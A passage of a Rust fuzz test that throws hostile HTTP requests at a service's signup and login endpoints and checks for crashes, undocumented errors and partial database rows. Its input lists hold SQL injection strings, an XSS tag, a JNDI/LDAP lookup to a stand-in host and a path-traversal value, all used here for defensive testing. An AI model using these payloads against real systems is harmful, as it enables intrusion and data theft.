//! Fault #6, hostile input: 10,000 random or mutated requests (bodies, content types, headers)
//! thrown at signup and login over HTTP, against the real service and a GoTrue double on the same
//! database. Never a 5xx (a handler panic answers 500 `internal`, so that covers panics too),
//! every error is `{"error": {"code"}}` with the documented code for its status, and never a
//! partial row. SQL-looking and Unicode-tricky names are stored verbatim; such emails are rejected
//! before anything reaches the database or GoTrue.
//!
//! A failure prints proptest's shrunk input; `PROPTEST_RNG_SEED=<n>` replays a run.

use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::{Config, RngSeed, TestCaseError, TestRunner};
use reqwest::header::{CONTENT_TYPE, HeaderName, HeaderValue};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::support::{
    self, TestApp, TestDb, assert_error, assert_invariants, signup_body, status_json,
};
use gotrue_double::Endpoint;

const SIGNUP: &str = "/api/auth/signup";
const LOGIN: &str = "/api/auth/login";
const SIGNUP_CASES: u32 = 6_000;
const LOGIN_CASES: u32 = 4_000;

/// The body limit of the service (startup::MAX_BODY_BYTES).
const BODY_LIMIT: usize = 16 * 1024;

/// Every status each endpoint documents below 500, with the one error code it carries.
const SIGNUP_ANSWERS: &[(u16, &str)] = &[
    (201, ""),
    (400, "invalid_json"),
    (400, "invalid_idempotency_key"),
    (409, "email_taken"),
    (409, "request_in_progress"),
    (413, "payload_too_large"),
    (415, "unsupported_media_type"),
    (422, "validation_failed"),
    (422, "weak_password"),
    (422, "idempotency_key_reused"),
];
const LOGIN_ANSWERS: &[(u16, &str)] = &[
    (200, ""),
    (400, "invalid_json"),
    (401, "invalid_credentials"),
    (403, "email_not_confirmed"),
    (413, "payload_too_large"),
    (415, "unsupported_media_type"),
    (422, "validation_failed"),
];

// ---------------------------------------------------------------------------------------------
// The request and its shrinkable description
// ---------------------------------------------------------------------------------------------

/// One hostile request: an optional Content-Type, extra headers (valid header bytes: reqwest
/// refuses the others) and a body of arbitrary bytes.
#[derive(Clone)]
struct Hostile {
    content_type: Option<Vec<u8>>,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

/// Bytes as a string literal when they are UTF-8, else as an escaped byte string.
struct Shown<'a>(&'a [u8]);

impl fmt::Debug for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match std::str::from_utf8(self.0) {
            Ok(s) => write!(f, "{s:?}"),
            Err(_) => write!(f, "b\"{}\"", self.0.escape_ascii()),
        }
    }
}

impl fmt::Debug for Hostile {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let headers: Vec<(&str, Shown<'_>)> = self
            .headers
            .iter()
            .map(|(name, value)| (name.as_str(), Shown(value)))
            .collect();
        f.debug_struct("Hostile")
            .field("content_type", &self.content_type.as_deref().map(Shown))
            .field("headers", &headers)
            .field("body_len", &self.body.len())
            .field("body", &Shown(&self.body))
            .finish()
    }
}

// ---------------------------------------------------------------------------------------------
// Strategies
// ---------------------------------------------------------------------------------------------

const SQL_STRINGS: &[&str] = &[
    "Robert'); DROP TABLE public.profiles;--",
    "' OR 1=1 --",
    "' OR '1'='1",
    "$$; select pg_sleep(10); $$",
    "'; select pg_sleep(10); --",
    "1; DROP TABLE auth.users CASCADE",
    "\\'; truncate auth.identities; --",
    "%' AND name LIKE '%",
    "'); delete from auth.users where (''='",
    "E'\\x41' || chr(0)",
    "$1 $2 ::text",
    "/**/UNION/**/SELECT encrypted_password FROM auth.users--",
    "'||(select pg_sleep(10))||'",
];

const TRICKY_STRINGS: &[&str] = &[
    "\u{202E}evil\u{202C}",
    "admin\u{202E}gpj.exe",
    "\u{2066}isolate\u{2069}",
    "👩\u{200D}👩\u{200D}👧\u{200D}👦",
    "a\u{200D}b\u{200C}c",
    "Zoe\u{0308}",
    "Zo\u{00EB}",
    "Z\u{0337}\u{0335}a\u{0338}l\u{0334}g\u{0336}o\u{035C}\u{0361}",
    "🦀 Ferris 🏳\u{FE0F}\u{200D}🌈",
    "\u{200B}",
    "\u{FEFF}Ada\u{FEFF}",
    "\u{3164}",
    "line\u{2028}separator\u{2029}",
    "\u{E000}\u{FFFF}\u{10FFFF}",
    "A\u{E0041}\u{E007F}",
    "李小龍 محمد 😀",
    "ǅ ß ﬁ İ \u{212A}",
    "\u{0430}dmin",
    "admin\u{FF20}example.com",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "\u{1b}[2J\u{1b}[31mred",
    "a\u{0}b",
    "\u{85}Ada\u{85}",
];

/// Raw JSON texts for a value: most are not JSON at all, or are JSON serde refuses.
const RAW_VALUES: &[&str] = &[
    "1e999999",
    "-1e999999",
    "NaN",
    "Infinity",
    "-",
    "+1",
    "01",
    ".5",
    "0x10",
    "tru",
    "nul",
    "'single'",
    "\"unterminated",
    "\"\\ud800\"",
    "\"\\udc00\\ud800\"",
    "\"\\u0000\"",
    "\"\\x41\"",
    "\"\\uZZZZ\"",
    "\"a\\\"",
    "[",
    "{",
    "",
    "123456789012345678901234567890123456789",
    "-0",
    "1.7976931348623157e309",
    "\"\u{0}\"",
    "\"line\nbreak\"",
    "/* c */ 1",
    "undefined",
    "{\"$ne\": null}",
    "[\"Creator\", \"Brand\"]",
];

/// A JSON string literal.
fn lit(s: &str) -> String {
    serde_json::to_string(s).expect("a string serializes")
}

/// Short hostile strings (no huge ones: those come in at the field level).
fn hostile_string() -> BoxedStrategy<String> {
    prop_oneof![
        4 => any::<String>(),
        2 => select(SQL_STRINGS).prop_map(str::to_owned),
        2 => select(TRICKY_STRINGS).prop_map(str::to_owned),
        1 => "[\\x00-\\x1f\\x7f\\x{80}-\\x{9f}]{1,4}",
        1 => (any::<char>(), 0usize..300).prop_map(|(c, n)| c.to_string().repeat(n)),
        1 => select(vec!["", " ", "\t\n", "null", "true", "0", "{}", "[]", "__proto__"])
            .prop_map(str::to_owned),
    ]
    .boxed()
}

/// Any JSON value: scalars, hostile strings, nested arrays and objects.
fn json_value() -> BoxedStrategy<Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        (-1e300f64..1e300).prop_map(Value::from),
        hostile_string().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 24, 5, |inner| {
        prop_oneof![
            vec(inner.clone(), 0..5).prop_map(Value::Array),
            vec((hostile_string(), inner), 0..5)
                .prop_map(|entries| Value::Object(entries.into_iter().collect())),
        ]
    })
    .boxed()
}

/// The raw JSON text of a field's value: usually a valid one, else hostile.
fn value_text(valid: BoxedStrategy<String>) -> BoxedStrategy<String> {
    prop_oneof![
        6 => valid.prop_map(|s| lit(&s)),
        2 => hostile_string().prop_map(|s| lit(&s)),
        2 => json_value().prop_map(|v| v.to_string()),
        1 => select(RAW_VALUES).prop_map(str::to_owned),
    ]
    .boxed()
}

/// Raw JSON texts of keys that look like `key` but are not (or are, once unescaped).
fn key_variants(key: &'static str) -> Vec<String> {
    let mut chars = key.chars();
    let first = chars.next().expect("a key") as u32;
    let rest: String = chars.collect();
    vec![
        lit(&key.to_uppercase()),
        lit(&format!("{key} ")),
        lit(&format!(" {key}")),
        lit(&format!("{key}\u{0}")),
        lit(&format!("{key}\u{200B}")),
        lit(&format!("{key}.{key}")),
        // The same key, spelled with a \u escape: serde reads it as `key`.
        format!("\"\\u{first:04x}{rest}\""),
    ]
}

/// The entries (raw key text, raw value text) of one field: present, dropped, duplicated, or
/// under a look-alike key.
fn field(key: &'static str, valid: BoxedStrategy<String>) -> BoxedStrategy<Vec<(String, String)>> {
    let value = value_text(valid);
    prop_oneof![
        8 => value.clone().prop_map(move |v| vec![(lit(key), v)]),
        1 => Just(Vec::new()),
        1 => (value.clone(), value.clone())
            .prop_map(move |(a, b)| vec![(lit(key), a), (lit(key), b)]),
        1 => (select(key_variants(key)), value).prop_map(|(k, v)| vec![(k, v)]),
    ]
    .boxed()
}

/// Unknown fields, rarely.
fn extra_entries() -> BoxedStrategy<Vec<(String, String)>> {
    prop_oneof![
        4 => Just(Vec::new()),
        1 => vec((hostile_string().prop_map(|k| lit(&k)), json_value().prop_map(|v| v.to_string())), 1..4),
    ]
    .boxed()
}

fn object_text(entries: &[(String, String)]) -> String {
    let inner: Vec<String> = entries.iter().map(|(k, v)| format!("{k}:{v}")).collect();
    format!("{{{}}}", inner.join(","))
}

/// What is put around the object: mostly nothing.
fn wrap(object: &str, how: u8) -> Vec<u8> {
    let text = match how {
        1 => format!("[{object}]"),
        2 => format!("{{\"data\":{object}}}"),
        3 => format!("{object}{object}"),
        4 => format!("{object},"),
        5 => format!(" \n\t{object}\r\n "),
        6 => format!("\u{FEFF}{object}"),
        7 => format!("{object}\u{0}"),
        8 => format!("{{\"user\":{object},\"__proto__\":{{\"admin\":true}}}}"),
        _ => object.to_owned(),
    };
    text.into_bytes()
}

/// A byte-level change at a relative position of the body.
#[derive(Debug, Clone)]
enum Mutation {
    Truncate(f64),
    Insert(f64, u8),
    Overwrite(f64, u8),
    InvalidUtf8(f64, &'static [u8]),
    Repeat(f64, f64),
}

const INTERESTING_BYTES: &[u8] = &[
    0x00, 0xff, 0xc0, 0x80, b'"', b'\\', b'{', b'}', b'[', b',', b':', b'\n',
];
const INVALID_UTF8: &[&[u8]] = &[
    &[0xc3],
    &[0xed, 0xa0, 0x80],
    &[0xf8, 0x88, 0x80, 0x80, 0x80],
    &[0xc0, 0xaf],
    &[0xfe, 0xff],
];

fn mutation() -> impl Strategy<Value = Mutation> {
    let byte = prop_oneof![any::<u8>(), select(INTERESTING_BYTES)];
    prop_oneof![
        (0.0..1.0f64).prop_map(Mutation::Truncate),
        (0.0..1.0f64, byte.clone()).prop_map(|(at, b)| Mutation::Insert(at, b)),
        (0.0..1.0f64, byte).prop_map(|(at, b)| Mutation::Overwrite(at, b)),
        (0.0..1.0f64, select(INVALID_UTF8)).prop_map(|(at, b)| Mutation::InvalidUtf8(at, b)),
        (0.0..1.0f64, 0.0..1.0f64).prop_map(|(a, b)| Mutation::Repeat(a, b)),
    ]
}

fn apply(body: &mut Vec<u8>, mutation: &Mutation) {
    let at = |fraction: f64, len: usize| ((len as f64 * fraction) as usize).min(len);
    match *mutation {
        Mutation::Truncate(f) => body.truncate(at(f, body.len())),
        Mutation::Insert(f, b) => body.insert(at(f, body.len()), b),
        Mutation::Overwrite(f, b) => {
            if !body.is_empty() {
                let i = at(f, body.len() - 1);
                body[i] = b;
            }
        }
        Mutation::InvalidUtf8(f, bytes) => {
            let i = at(f, body.len());
            body.splice(i..i, bytes.iter().copied());
        }
        Mutation::Repeat(a, b) => {
            let (start, end) = (at(a.min(b), body.len()), at(a.max(b), body.len()));
            let slice = body[start..end].to_vec();
            body.splice(end..end, slice);
        }
    }
}

/// An object of the endpoint's fields, some changed, shuffled, perhaps wrapped, perhaps
/// mutated byte by byte.
fn mutated_object(fields: Vec<BoxedStrategy<Vec<(String, String)>>>) -> BoxedStrategy<Vec<u8>> {
    let entries = (fields, extra_entries())
        .prop_map(|(fields, extra)| {
            fields
                .into_iter()
                .flatten()
                .chain(extra)
                .collect::<Vec<_>>()
        })
        .prop_flat_map(|entries| Just(entries).prop_shuffle());
    let wrapping = prop_oneof![8 => Just(0u8), 1 => 1u8..9];
    let mutations = prop_oneof![3 => Just(Vec::new()), 1 => vec(mutation(), 1..4)];
    (entries, wrapping, mutations)
        .prop_map(|(entries, how, mutations)| {
            let mut body = wrap(&object_text(&entries), how);
            for m in &mutations {
                apply(&mut body, m);
            }
            body
        })
        .boxed()
}

/// Deeply nested arrays or objects, balanced or not; past serde's recursion limit, some past
/// the body limit.
fn deeply_nested() -> BoxedStrategy<Vec<u8>> {
    (1usize..5000, any::<bool>(), any::<bool>())
        .prop_map(|(depth, arrays, balanced)| {
            let (open, close) = if arrays { ("[", "]") } else { ("{\"a\":", "}") };
            let mut text = open.repeat(depth);
            text.push_str("null");
            if balanced {
                text.push_str(&close.repeat(depth));
            }
            text.into_bytes()
        })
        .boxed()
}

/// A valid body padded (in `pad_field`) to a total size within 256 bytes of the body limit.
fn near_limit(
    base: impl Strategy<Value = serde_json::Map<String, Value>> + 'static,
    pad_fields: &'static [&'static str],
) -> BoxedStrategy<Vec<u8>> {
    (
        base,
        select(pad_fields),
        (BODY_LIMIT - 256)..(BODY_LIMIT + 256),
    )
        .prop_map(|(mut object, pad, target)| {
            object.insert(pad.to_owned(), Value::from(""));
            let base_len = Value::Object(object.clone()).to_string().len();
            let n = target.saturating_sub(base_len);
            object.insert(pad.to_owned(), Value::from("x".repeat(n)));
            Value::Object(object).to_string().into_bytes()
        })
        .boxed()
}

fn content_type() -> BoxedStrategy<Option<Vec<u8>>> {
    const ODD: &[&str] = &[
        "application/json; charset=utf-8",
        "application/json; charset=latin1",
        "application/json;charset=\"utf-16\"",
        "APPLICATION/JSON",
        "Application/Json ; foo=bar",
        "application/vnd.api+json",
        "application/problem+json",
        "application/json-seq",
        "application/jsonx",
        "application/x-json",
        "text/json",
        "text/plain",
        "text/plain; charset=utf-8",
        "multipart/form-data; boundary=----x",
        "application/x-www-form-urlencoded",
        "application/octet-stream",
        "*/*",
        "application/*",
        "",
        " ",
        ";",
        "application/",
        "/json",
        "json",
        "application/json, text/plain",
        "application/json\t",
        "application/json; charset=utf-8; charset=utf-16",
        "application/json; boundary=\"",
    ];
    prop_oneof![
        20 => Just(Some(b"application/json".to_vec())),
        3 => select(ODD).prop_map(|s| Some(s.as_bytes().to_vec())),
        2 => Just(None),
        1 => "[ -~]{0,40}".prop_map(|s| Some(s.into_bytes())),
        1 => "application/json;[ -~]{0,30}".prop_map(|s| Some(s.into_bytes())),
        1 => header_bytes().prop_map(Some),
    ]
    .boxed()
}

/// Bytes a header value may hold: visible ASCII, space, tab and obs-text (0x80–0xff).
fn header_bytes() -> BoxedStrategy<Vec<u8>> {
    vec(
        prop_oneof![0x20u8..=0x7e, 0x80u8..=0xff, Just(b'\t')],
        0..80,
    )
    .boxed()
}

fn extra_headers() -> BoxedStrategy<Vec<(String, Vec<u8>)>> {
    // Not the framing headers (Content-Length, Transfer-Encoding, Host, Connection, Expect, TE,
    // Upgrade): garbage there breaks the HTTP exchange itself, before the service sees it.
    const NAMES: &[&str] = &[
        "x-forwarded-for",
        "x-real-ip",
        "forwarded",
        "idempotency-key",
        "x-request-id",
        "authorization",
        "apikey",
        "cookie",
        "accept",
        "accept-language",
        "accept-encoding",
        "content-encoding",
        "content-language",
        "origin",
        "referer",
        "user-agent",
        "x-supabase-api-version",
        "x-http-method-override",
        "range",
        "if-match",
        "content-type",
    ];
    const VALUES: &[&str] = &[
        "1.2.3.4",
        "::1",
        "999.999.999.999",
        "1.2.3.4, 5.6.7.8, ::ffff:10.0.0.1",
        "unknown, , ,",
        "for=\"[2001:db8::1]:80\";proto=https",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd",
        "%00",
        "Bearer x.y.z",
        "gzip",
        "2024-01-01",
        "application/json",
        "",
    ];
    let name = prop_oneof![
        3 => select(NAMES).prop_map(str::to_owned),
        1 => "x-[a-z0-9-]{1,20}",
    ];
    let value = prop_oneof![
        2 => select(VALUES).prop_map(|s| s.as_bytes().to_vec()),
        1 => "[ -~]{0,60}".prop_map(String::into_bytes),
        1 => header_bytes(),
    ];
    prop_oneof![
        2 => Just(Vec::new()),
        1 => vec((name, value), 1..5),
    ]
    .boxed()
}

fn hostile(body: BoxedStrategy<Vec<u8>>) -> impl Strategy<Value = Hostile> {
    (content_type(), extra_headers(), body).prop_map(|(content_type, headers, body)| Hostile {
        content_type,
        headers,
        body,
    })
}

/// Bodies that are no object of ours at all.
fn garbage_bodies() -> BoxedStrategy<Vec<u8>> {
    prop_oneof![
        vec(any::<u8>(), 0..1024),
        any::<String>().prop_map(String::into_bytes),
        json_value().prop_map(|v| v.to_string().into_bytes()),
        deeply_nested(),
    ]
    .boxed()
}

// --- signup ---

fn valid_name() -> BoxedStrategy<String> {
    prop_oneof![
        2 => select(vec!["Ada Lovelace", "  Ada  ", "Zoë", "李小龍", "O'Brien"]).prop_map(str::to_owned),
        2 => select(SQL_STRINGS).prop_map(str::to_owned),
        2 => select(TRICKY_STRINGS).prop_map(str::to_owned),
        1 => "\\PC{1,60}",
        1 => (90usize..110).prop_map(|n| "n".repeat(n)),
    ]
    .boxed()
}

/// A fresh address per case (a repeat is a 409, which is fine), sometimes padded or upper-case.
fn valid_email() -> BoxedStrategy<String> {
    prop_oneof![
        6 => any::<u64>().prop_map(|n| format!("fuzz.{n:x}@example.com")),
        1 => (any::<u64>(), select(vec![" ", "\t", "\n "]))
            .prop_map(|(n, pad)| format!("{pad}Fuzz.{n:X}@Example.COM{pad}")),
        1 => (any::<u32>(), 55usize..75)
            .prop_map(|(n, len)| format!("{n:08x}{}@example.com", "a".repeat(len - 8))),
    ]
    .boxed()
}

fn valid_password() -> BoxedStrategy<String> {
    prop_oneof![
        4 => Just("correct horse battery".to_owned()),
        1 => "\\PC{8,40}",
        1 => select(SQL_STRINGS).prop_map(str::to_owned),
        1 => (250usize..262).prop_map(|n| "p".repeat(n)),
    ]
    .boxed()
}

fn valid_role() -> BoxedStrategy<String> {
    prop_oneof![
        6 => select(vec!["Creator", "Brand"]).prop_map(str::to_owned),
        1 => select(vec!["creator", "admin", " Brand", "Creator,Brand", "service_role"])
            .prop_map(str::to_owned),
    ]
    .boxed()
}

fn valid_signup() -> impl Strategy<Value = serde_json::Map<String, Value>> {
    (valid_name(), valid_email(), valid_password(), valid_role()).prop_map(
        |(name, email, password, role)| {
            let body = json!({ "name": name, "email": email, "password": password, "role": role });
            match body {
                Value::Object(map) => map,
                _ => unreachable!("an object"),
            }
        },
    )
}

fn signup_request() -> impl Strategy<Value = Hostile> {
    let body = prop_oneof![
        3 => valid_signup().prop_map(|m| Value::Object(m).to_string().into_bytes()),
        8 => mutated_object(vec![
            field("name", valid_name()),
            field("email", valid_email()),
            field("password", valid_password()),
            field("role", valid_role()),
        ]),
        3 => garbage_bodies(),
        1 => near_limit(valid_signup(), &["name", "password", "bio"]),
    ];
    hostile(body.boxed())
}

// --- login ---

const CONFIRMED: &str = "seed.confirmed@example.com";
const UNCONFIRMED: &str = "seed.unconfirmed@example.com";
const BANNED: &str = "seed.banned@example.com";
const SEED_PASSWORD: &str = "correct horse battery";

fn login_email() -> BoxedStrategy<String> {
    prop_oneof![
        4 => select(vec![CONFIRMED, UNCONFIRMED, BANNED]).prop_map(str::to_owned),
        1 => Just(format!("  {}\t", CONFIRMED.to_uppercase())),
        2 => valid_email(),
    ]
    .boxed()
}

fn login_password() -> BoxedStrategy<String> {
    prop_oneof![
        4 => Just(SEED_PASSWORD.to_owned()),
        1 => "\\PC{1,40}",
        1 => select(SQL_STRINGS).prop_map(str::to_owned),
        1 => (1015usize..1035).prop_map(|n| "p".repeat(n)),
    ]
    .boxed()
}

fn valid_login() -> impl Strategy<Value = serde_json::Map<String, Value>> {
    (login_email(), login_password()).prop_map(|(email, password)| {
        match json!({ "email": email, "password": password }) {
            Value::Object(map) => map,
            _ => unreachable!("an object"),
        }
    })
}

fn login_request() -> impl Strategy<Value = Hostile> {
    let body = prop_oneof![
        3 => valid_login().prop_map(|m| Value::Object(m).to_string().into_bytes()),
        8 => mutated_object(vec![
            field("email", login_email()),
            field("password", login_password()),
        ]),
        3 => garbage_bodies(),
        1 => near_limit(valid_login(), &["password", "email", "remember_me"]),
    ];
    hostile(body.boxed())
}

// ---------------------------------------------------------------------------------------------
// Running and checking
// ---------------------------------------------------------------------------------------------

/// Runs `cases` cases of `strategy` through `check` (a blocking call into the test's runtime),
/// shrinking a failure to a minimal input. The seed is PROPTEST_RNG_SEED when set, else random,
/// and named in a failure so that the run can be replayed.
fn run_cases<S: Strategy>(
    cases: u32,
    strategy: S,
    check: impl Fn(S::Value) -> Result<(), TestCaseError>,
) {
    let mut config = Config {
        cases,
        failure_persistence: None,
        max_shrink_time: 60_000,
        ..Config::default()
    };
    let seed = match config.rng_seed {
        RngSeed::Fixed(seed) => seed,
        RngSeed::Random => rand::random(),
    };
    config.rng_seed = RngSeed::Fixed(seed);
    let mut runner = TestRunner::new(config);
    let result = tokio::task::block_in_place(|| runner.run(&strategy, check));
    if let Err(err) = result {
        panic!("{err}\n(replay with PROPTEST_RNG_SEED={seed})");
    }
}

/// An error and all its causes (reqwest's own message is only "error sending request").
fn error_chain(err: &(dyn std::error::Error + 'static)) -> String {
    let mut text = err.to_string();
    let mut cause = err.source();
    while let Some(e) = cause {
        text.push_str(&format!(": {e}"));
        cause = e.source();
    }
    text
}

/// Sends the request; the status and the body text.
async fn send(app: &TestApp, path: &str, case: &Hostile) -> Result<(u16, String), TestCaseError> {
    let mut request = app
        .client
        .post(format!("{}{path}", app.address))
        .timeout(Duration::from_secs(30))
        .body(case.body.clone());
    if let Some(ct) = &case.content_type {
        let value = HeaderValue::from_bytes(ct).expect("the strategy makes valid header values");
        request = request.header(CONTENT_TYPE, value);
    }
    for (name, value) in &case.headers {
        let name = HeaderName::from_bytes(name.as_bytes()).expect("a valid header name");
        let value = HeaderValue::from_bytes(value).expect("a valid header value");
        request = request.header(name, value);
    }
    let response = request
        .send()
        .await
        .map_err(|err| TestCaseError::fail(format!("no answer: {}", error_chain(&err))))?;
    let status = response.status().as_u16();
    let text = response
        .text()
        .await
        .map_err(|err| TestCaseError::fail(format!("{status} with an unreadable body: {err}")))?;
    Ok((status, text))
}

/// Never a 5xx; only documented statuses; JSON always; an error carries the code of its status.
fn check_answer(
    case: &Hostile,
    status: u16,
    text: &str,
    answers: &[(u16, &str)],
) -> Result<Value, TestCaseError> {
    prop_assert!(status < 500, "answered {status}: {text}");
    // The body limit holds both ways: nothing over it is taken, nothing under it is "too large".
    prop_assert!(
        status >= 400 || case.body.len() <= BODY_LIMIT,
        "{status} for a body of {} bytes",
        case.body.len()
    );
    prop_assert!(
        status != 413 || case.body.len() > BODY_LIMIT,
        "413 for a body of {} bytes",
        case.body.len()
    );
    let body: Value = serde_json::from_str(text)
        .map_err(|_| TestCaseError::fail(format!("answer {status} is not JSON: {text:?}")))?;
    if status >= 400 {
        let code = body["error"]["code"].as_str();
        prop_assert!(code.is_some(), "answer {status} has no error.code: {text}");
        prop_assert!(
            answers.contains(&(status, code.unwrap_or_default())),
            "undocumented answer {status} {code:?}: {text}"
        );
    } else {
        prop_assert!(
            answers.iter().any(|(s, _)| *s == status),
            "undocumented answer {status}: {text}"
        );
    }
    Ok(body)
}

fn count(stats: &Mutex<BTreeMap<u16, usize>>, status: u16) {
    *stats.lock().unwrap().entry(status).or_default() += 1;
}

/// The signup tables and the outbox are still there (no SQL string was executed).
async fn assert_tables_intact(db: &TestDb) {
    let missing: Vec<String> = sqlx::query_scalar(
        "select t.name from (values ('public.profiles'), ('auth.users'), ('auth.identities'), \
         ('atomic_signup.confirmation_outbox')) as t(name) where to_regclass(t.name) is null",
    )
    .fetch_all(&db.pool)
    .await
    .expect("look up the tables");
    assert!(missing.is_empty(), "tables gone: {missing:?}");
}

/// Every profile has its auth user and that user's email identity (also in invariants.sql).
async fn assert_every_profile_whole(db: &TestDb) {
    let broken: i64 = sqlx::query_scalar(
        "select count(*) from public.profiles p where not exists (
           select 1 from auth.users u join auth.identities i
             on i.user_id = u.id and i.provider = 'email' and i.provider_id = u.id::text
           where u.id = p.id)",
    )
    .fetch_one(&db.pool)
    .await
    .expect("check profiles");
    assert_eq!(broken, 0, "profiles without their user and email identity");
}

async fn profile_names(db: &TestDb) -> HashMap<Uuid, String> {
    let rows: Vec<(Uuid, String)> = sqlx::query_as("select id, name from public.profiles")
        .fetch_all(&db.pool)
        .await
        .expect("read profiles");
    rows.into_iter().collect()
}

fn assert_all_seen(stats: &BTreeMap<u16, usize>, statuses: &[u16]) {
    for status in statuses {
        assert!(
            stats.get(status).is_some_and(|n| *n > 0),
            "the strategies never produced a {status}: {stats:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_signup_requests_never_get_a_5xx_or_leave_a_partial_row() {
    let app = TestApp::builder().gotrue().spawn().await;
    let handle = tokio::runtime::Handle::current();
    let stats = Mutex::new(BTreeMap::new());
    // user id → the name sent (trimmed), of every 201 (a replay under an Idempotency-Key
    // answers the same user again).
    let created: Mutex<HashMap<Uuid, String>> = Mutex::new(HashMap::new());
    let started = Instant::now();

    run_cases(SIGNUP_CASES, signup_request(), |case| {
        handle.block_on(async {
            let (status, text) = send(&app, SIGNUP, &case).await?;
            count(&stats, status);
            let body = check_answer(&case, status, &text, SIGNUP_ANSWERS)?;
            if status == 201 {
                // What the service parsed is what serde reads from the same bytes.
                let sent: Value = serde_json::from_slice(&case.body).map_err(|e| {
                    TestCaseError::fail(format!("201 for a body serde refuses: {e}"))
                })?;
                let name = sent["name"].as_str().unwrap_or_default().trim().to_owned();
                prop_assert_eq!(body["name"].as_str(), Some(name.as_str()));
                let id = body["user_id"]
                    .as_str()
                    .and_then(|s| s.parse::<Uuid>().ok())
                    .ok_or_else(|| TestCaseError::fail(format!("201 without a user_id: {text}")))?;
                let earlier = created.lock().unwrap().insert(id, name.clone());
                prop_assert!(
                    earlier.is_none_or(|earlier| earlier == name),
                    "user {} answered again for another name",
                    id
                );
            }
            Ok::<(), TestCaseError>(())
        })
    });

    let elapsed = started.elapsed();
    let stats = stats.into_inner().unwrap();
    let created = created.into_inner().unwrap();
    println!("{SIGNUP_CASES} hostile signups in {elapsed:?}: statuses {stats:?}");
    assert_all_seen(&stats, &[201, 400, 413, 415, 422]);

    // Exactly the 201s are in the database, whole, each with the name it was sent.
    let n = created.len() as i64;
    assert_eq!(support::counts(&app.db).await, (n, n, n));
    let stored = profile_names(&app.db).await;
    for (id, name) in &created {
        assert_eq!(
            stored.get(id).map(String::as_bytes),
            Some(name.as_bytes()),
            "profile {id}"
        );
    }
    assert_tables_intact(&app.db).await;
    assert_every_profile_whole(&app.db).await;
    assert_invariants(&app.db).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_login_requests_never_get_a_5xx_or_write_a_row() {
    let app = TestApp::builder().gotrue().spawn().await;
    for email in [CONFIRMED, UNCONFIRMED, BANNED] {
        let res = app.signup(&signup_body("Seed", email, "Creator")).await;
        assert_eq!(res.status(), 201, "seed {email}");
    }
    sqlx::query("update auth.users set email_confirmed_at = now() where email = $1")
        .bind(CONFIRMED)
        .execute(&app.db.pool)
        .await
        .unwrap();
    sqlx::query("update auth.users set banned_until = 'infinity' where email = $1")
        .bind(BANNED)
        .execute(&app.db.pool)
        .await
        .unwrap();
    let handle = tokio::runtime::Handle::current();
    let stats = Mutex::new(BTreeMap::new());
    let started = Instant::now();

    run_cases(LOGIN_CASES, login_request(), |case| {
        handle.block_on(async {
            let (status, text) = send(&app, LOGIN, &case).await?;
            count(&stats, status);
            let body = check_answer(&case, status, &text, LOGIN_ANSWERS)?;
            if status == 200 {
                prop_assert_eq!(body["user"]["email"].as_str(), Some(CONFIRMED));
                prop_assert_eq!(body["profile"]["name"].as_str(), Some("Seed"));
            }
            Ok::<(), TestCaseError>(())
        })
    });

    let elapsed = started.elapsed();
    let stats = stats.into_inner().unwrap();
    println!("{LOGIN_CASES} hostile logins in {elapsed:?}: statuses {stats:?}");
    // 403 comes only from the unconfirmed user with the right password (a banned user answers
    // 401 like a wrong password), too rare for random cases: asked once here.
    assert_all_seen(&stats, &[200, 400, 401, 413, 415, 422]);
    assert_error(
        app.login(UNCONFIRMED, "correct horse battery").await,
        403,
        "email_not_confirmed",
    )
    .await;
    assert_eq!(
        support::counts(&app.db).await,
        (3, 3, 3),
        "login writes no user"
    );
    assert_tables_intact(&app.db).await;
    assert_every_profile_whole(&app.db).await;
    assert_invariants(&app.db).await;
}

/// Names a signup accepts, as sent → as stored (only Unicode White_Space at the ends is trimmed;
/// nothing is normalised, format characters are kept).
const NAMES_STORED: &[(&str, &str)] = &[
    (
        "Robert'); DROP TABLE public.profiles;--",
        "Robert'); DROP TABLE public.profiles;--",
    ),
    ("' OR 1=1 --", "' OR 1=1 --"),
    ("' OR '1'='1", "' OR '1'='1"),
    ("$$; select pg_sleep(10); $$", "$$; select pg_sleep(10); $$"),
    ("'||(select pg_sleep(10))||'", "'||(select pg_sleep(10))||'"),
    (
        "1; DROP TABLE auth.users CASCADE",
        "1; DROP TABLE auth.users CASCADE",
    ),
    (
        "\\'; truncate auth.identities; --",
        "\\'; truncate auth.identities; --",
    ),
    ("%' AND name LIKE '%", "%' AND name LIKE '%"),
    ("$1 $2 ::text", "$1 $2 ::text"),
    ("{\"name\": \"json\"}", "{\"name\": \"json\"}"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    // Emoji without joiners (a ZWJ sequence holds U+200D, a format character: refused).
    ("🦀 Ferris 🌈", "🦀 Ferris 🌈"),
    // NFD and NFC: both kept as sent, not normalised into each other.
    ("Zoe\u{0308}", "Zoe\u{0308}"),
    ("Zo\u{00EB}", "Zo\u{00EB}"),
    (
        "Z\u{0337}\u{0335}a\u{0338}l\u{0334}g\u{0336}o\u{035C}\u{0361}",
        "Z\u{0337}\u{0335}a\u{0338}l\u{0334}g\u{0336}o\u{035C}\u{0361}",
    ),
    // Line / paragraph separators at the ends are White_Space: trimmed.
    ("\u{2028}Ada\u{2029}", "Ada"),
    ("李小龍 محمد 😀", "李小龍 محمد 😀"),
    ("ǅ ß ﬁ İ \u{212A}", "ǅ ß ﬁ İ \u{212A}"),
